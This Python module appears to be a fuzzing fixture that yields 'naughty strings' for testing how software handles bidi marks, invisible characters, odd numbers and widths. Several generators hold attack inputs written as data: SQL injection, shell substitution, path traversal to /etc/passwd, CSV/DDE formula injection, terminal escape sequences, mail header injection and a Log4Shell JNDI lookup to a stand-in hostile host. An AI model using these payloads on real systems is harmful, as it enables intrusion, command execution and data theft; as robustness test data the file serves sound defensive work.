"""Texts that run nothing and still break what is careless: with directions, widths, ends of lines,
numbers, and with what shells, databases, spreadsheets and terminals read as orders.
"""

from __future__ import annotations

from collections.abc import Iterator
from functools import cache
from itertools import product

_LONG = 10_240
_DIRECTIONS = "\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_UNSEEN = "\u00ad\u034f\u115f\u1160\u17b4\u180b\u180e\u200b\u200c\u200d\u2060\u2061\u2063\u206a\u206f\u3164\ufe0f\ufeff\uffa0\ufff9\ufffb\U0001d173\U000e0001\U000e0041"
_SPACES = "\t\n\v\f\r\x1c\x85\xa0\u1680\u2000\u2007\u2028\u2029\u202f\u205f\u3000"
_LATIN, _ARABIC, _HEBREW = "Rabat and Niamey", "الرباط ونيامي", "רבאט וניאמיי"


def directed() -> Iterator[str]:
    """Texts that would turn round what stands beside them, were they not isolated."""
    for mark in _DIRECTIONS:
        yield f"{mark}{_LATIN}"
        yield f"{_LATIN} {mark}{_ARABIC}"
        yield mark * 200 + _LATIN
    for one, other in product((_LATIN, _ARABIC, _HEBREW), repeat=2):
        yield f"{one} (2026) {other}!"
    for text in (_LATIN, _ARABIC, _HEBREW):
        yield f"\u202e{text}\u202c"
        yield f"\u2067{text}"
        yield f"{text}\u2069\u2069\u202c\u202c"
        yield f"3–4, 12% {text} -5"
        yield f"] ) > {text} < ( ["
    yield "\u202egpj.exe"
    yield "\u202e\u2066\u202d\u2067" * 40 + "x"
    yield f"{_ARABIC} - 2026/03/12 - +1 (555) 010"


def _controls() -> Iterator[str]:
    for code in (*range(32), *range(127, 160)):
        yield f"a{chr(code)}b"
    for one in _UNSEEN:
        yield one
        yield f"Ra{one}bat"
    for one in _SPACES:
        yield f"{one}Rabat{one}{one}and{one}Niamey{one}"
    yield from (one * 300 for one in "\u200b\u2028\ufeff\u00ad")


def _marks() -> Iterator[str]:
    for base, mark in product("aعא漢", "\u0301\u0338\u0489\u20dd\u064b"):
        yield base + mark * 40
    yield "".join(letter + "\u0300\u0316\u0334" * 20 for letter in "Rabat")
    yield "\u0301" * 500
    yield "ﷺ" * 60
    yield "𒐫" * 60
    yield "꧅" * 60


def _characters() -> Iterator[str]:
    yield from ("\ufffd", "\ufffe", "\uffff", "\U0001ffff", "\U0010ffff", "\ue000", "\U000f0000")
    yield from ("\ufdd0", "\u0378", "\u2fe0", "\U0002a6df", "\u1e9e", "ŉ", "ǆ", "ﬃ", "Ⅻ", "㋿", "½")
    yield from (
        "İstanbul", "ıi̇Iİ", "ΑΣ ας", "STRASSE Straße", "Å Å Å", "가 가", "ｆｕｌｌ", "𝖋𝖗𝖆𝖐𝖙𝖚𝖗", "ǝpᴉsdn",
    )  # fmt: skip
    yield from ("👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇲🇦🇳🇪", "🏳️‍🌈", "👍🏿", "❤️", "☺︎", "👩" + "\u200d👩" * 50, "🇦" * 99)
    yield from (
        "田中さんにあげて", "和製漢語", "사회과학원", "ประเทศไทย", "ግዕዝ", "ᐃᓄᒃᑎᑐᑦ", "ދިވެހި", "བོད", "ⵜⴰⵎⴰⵣⵉⵖⵜ",
        "ߒߞߏ",
    )  # fmt: skip
    yield from (
        "Ω≈ç√∫˜µ≤≥÷", "¡™£¢∞§¶•ªº–≠", "œ∑´®†¥¨ˆøπ“‘", "⁰⁴⁵₀₁₂", "´*+,;:", "¸˛Ç◊ı˜Â¯˘¿",
        "`⁄€‹›ﬁﬂ‡°·‚—±",
    )  # fmt: skip
    yield from (
        "Ù¾Ø§Ú©", "RÃ©admission", "â€œquotedâ€\x9d", "R\ufffd\ufffdadmission",
        "=?utf-8?Q?=3Cb=3E?=", "\\u202e", "%u202e",
    )  # fmt: skip


def _widths() -> Iterator[str]:
    for letter in ("x", "W", "ب", "漢", "_", ".", "-", "/", "🙂", "\xa0", "ſ", "i", "0"):
        yield letter * _LONG
    yield "https://news.example/" + "a" * 2000
    yield "Verwaltungsvereinbarungsunterzeichnungsfeierlichkeiten" * 6
    yield "مذكرة_تفاهم_" * 200
    yield "a b " * 3000
    yield "\n".join("x" * 500)
    yield "-" * 400 + " " + "=" * 400


def _numbers() -> Iterator[str]:
    yield from (
        "0", "-0", "1", "-1", "00", "007", "1.0", "1e3", "1E+400", "-1e-400", "0x10", "0b1", "0o7",
        "1_000",
    )  # fmt: skip
    yield from (
        "NaN", "nan", "Infinity", "-Infinity", "inf", "1/0", "0/0", ".5", "5.", "1,5", "1.000,50",
        "1 000", "1'000",
    )  # fmt: skip
    yield from (
        "9" * 20,
        "9" * 400,
        "2147483648",
        "-2147483649",
        "9007199254740993",
        "9223372036854775808",
        "18446744073709551616",
    )
    yield from (
        "٣", "۱۲", "४२", "１２", "Ⅳ", "²", "true", "false", "True", "yes", "no", "NO", "on", "off",
        "null", "None", "nil",
    )  # fmt: skip
    yield from (
        "undefined", "undef", "(null)", "N/A", "NULL", "\\N", "{}", "[]", "()", "''", '""', "``",
        "0000-00-00", "2026-02-30",
    )  # fmt: skip
    yield from (
        "9999-12-31", "10000-01-01", "1970-01-01T00:00:00Z", "24:60:60", "2026-W11-4", "12:34",
        "1:2:3", "~", "!!python/name:os.system", "*x", "&x", "<<",
    )  # fmt: skip


def _spreadsheets() -> Iterator[str]:
    starts = (
        "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20",
        "\u200b=", "\xa0=", "\ufeff=",
    )  # fmt: skip
    for start in starts:
        yield f"{start}1+1"
        yield f'{start}HYPERLINK("https://hostile.invalid/"&A1,"x")'
    yield from (
        "=cmd|'/C calc'!A0",
        '=DDE("cmd";"/C calc";"x")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=IMPORTXML("//hostile.invalid","//a")',
    )
    yield from (
        'x",=1+1,"', "x\n=1+1", "x;=1+1", "x\r\n=1+1", "'=1+1", '"=1+1"', "-2+3+cmd|' /C calc'!A0",
        "%0A=1+1", "=\u202e1+1",
    )  # fmt: skip


def _terminals() -> Iterator[str]:
    for escape in ("\x1b[", "\x9b", "\u241b[", "\\x1b[", "\\033["):
        for order in ("31m", "2J", "1;1H", "?1049h", "6n", "5i", "3J", "8m"):
            yield f"{escape}{order}x"
    for end in ("\x07", "\x1b\\", "\x9c", ""):
        yield f"\x1b]0;owned{end}"
        yield f"\x1b]8;;https://hostile.invalid{end}x\x1b]8;;{end}"
        yield f"\x1b]52;c;cm0gLXJm{end}"
        yield f"\x9d50;#x{end}"
        yield f"\x1bP+q544e{end}"
    yield from (
        "\x1bc",
        "\x1b#8",
        "\x1b(0",
        "\x0e",
        "\x08" * 20 + "x",
        "ok\rFAILED",
        "x\x1b[999Dy",
        "\x05",
        "\x90\x9c",
        "[bold red]x[/]",
        "[link=//hostile.invalid]x[/link]",
        "[/]",
    )


def _orders() -> Iterator[str]:
    """What databases, shells, loggers, mailers and paths take for orders."""
    yield from (
        "' OR '1'='1", "'; DROP TABLE documents; --", "1; DROP TABLE agreements", '" OR ""="',
        "') OR ('1'='1", "admin'--", "/* x */", "%", "_", "\\%", "' UNION SELECT 1,2 --", "\\'; --",
        "x' AND SLEEP(5) --", "$1", ":id", "?", "%s", "%(x)s",
    )  # fmt: skip
    yield from (
        "$(touch x)", "`touch x`", "| cat /etc/passwd", "; ls", "&& ls", "> x", "$HOME", "~root",
        "!!", "*", "?", "{a,b}", "$IFS", "\\", "\\\\", "'", '"', "''''", '"""', "%COMSPEC%",
        "%n%n%n%n", "%x%s%p", "{0}", "{x!r}", "%d",
    )  # fmt: skip
    yield from (
        "../../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\CON", "CON", "NUL", "AUX.txt",
        "file:///etc/passwd", "\\\\hostile.invalid\\x", ".", "..", "./-rf", "-rf", "--help",
        "--config=x", "-", "--", "a/b", "a\\b", "%2e%2e%2f", "x\x00.html", ".htaccess",
    )  # fmt: skip
    yield from (
        "x\r\nSet-Cookie: a=b", "x\r\nBcc: evil@hostile.invalid", "x\n\n<html>",
        "x%0d%0aLocation:%20//hostile.invalid", "Subject: x\r\nFrom: y",
        "\u560a\u560dSet-Cookie: x", ".\r\nQUIT", "=?utf-8?B?CkJjYzogeA==?=", "From x",
        "--boundary",
    )  # fmt: skip
    yield from (
        "AND", "OR", "NOT", "NEAR(a b)", "a AND", "OR b", "NOT", '"unclosed', 'a"b', "a*", "*a",
        "^a", "title:a", "a NEAR/2 b", "(a", "a)", "a & | ! b", "a:*", "<->", "''", "a + b",
        "{title} : a", "-a", "- a", "+",
    )  # fmt: skip
    yield from (
        '<?xml version="1.0"?>', "&", "&amp", "&amp;amp;", "&#0;", "&#xD800;", "&#x110000;",
        "&unknown;", "]]>", "<![CDATA[", "<!DOCTYPE x>", "&lt;b&gt;", "<b>bold</b>", "<br>",
        "</bdi>", "</a></h2>", "<!--", "-->", "<",
    )  # fmt: skip
    yield from (
        '{"a": 1}', "[1, 2]", '"', "\\u0000", "\\ud800", '\\"', "\u2028\u2029", "__proto__",
        "constructor", "toString", "hasOwnProperty", "{{7*7}}", "${jndi:ldap://hostile.invalid/x}",
        "{% raw %}", "#{7*7}", "T(java.lang.Runtime)", "a: b", "- a", "key: [", "\t- x", "# x",
        "| x", "%YAML", "? x",
    )  # fmt: skip


# Half of a pair: storable nowhere, so that what takes it must replace or refuse it.
HALVES = ("\ud800", "a\udc00b", "\udfff\ud800", "\ud83d")

_CLASSES = (
    directed, _controls, _marks, _characters, _widths, _numbers, _spreadsheets, _terminals, _orders,
)  # fmt: skip


@cache
def naughty() -> tuple[str, ...]:
    """All of them that Unicode can write, each once."""
    return tuple(dict.fromkeys(one for made in _CLASSES for one in made()))
